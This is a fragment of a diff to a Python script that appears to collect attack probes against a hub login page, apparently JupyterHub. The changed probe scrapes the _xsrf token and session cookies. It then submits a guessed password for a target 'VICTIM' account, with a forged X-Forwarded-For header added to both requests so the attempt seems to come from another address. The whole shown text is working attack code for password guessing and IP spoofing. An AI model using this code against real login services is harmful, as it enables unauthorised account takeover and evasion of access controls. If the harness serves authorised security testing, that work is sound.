@@ -155,16 +155,15 @@ for method, where in (
         print("GOT", method, where, status, said[:100])
 """,
     "passwords and class codes, tried past the proxy with made-up addresses": """
-status, said = ask(HUB, "/hub/login")
+elsewhere = {"X-Forwarded-For": "10.9.8.7"}
 connection = Unix(HUB)
-connection.request("GET", "/hub/login")
+connection.request("GET", "/hub/login", headers=elsewhere)
 answer = connection.getresponse()
 xsrf = re.search(r'name="_xsrf" value="([^"]+)"', answer.read().decode())[1]
 cookie = "; ".join(value.split(";")[0] for key, value in answer.getheaders() if key == "Set-Cookie")
 body = f"username={VICTIM}&password=guess&_xsrf={xsrf}"
-status, said = ask(HUB, "/hub/login", "POST", body, **{
-    "Cookie": cookie, "X-Forwarded-For": "10.9.8.7", "Content-Type": "application/x-www-form-urlencoded",
-})
+form = {"Cookie": cookie, "Content-Type": "application/x-www-form-urlencoded"}
+status, said = ask(HUB, "/hub/login", "POST", body, **elsewhere, **form)
 if "with a browser" not in said:
     print("GOT it looked at", status)
 """,
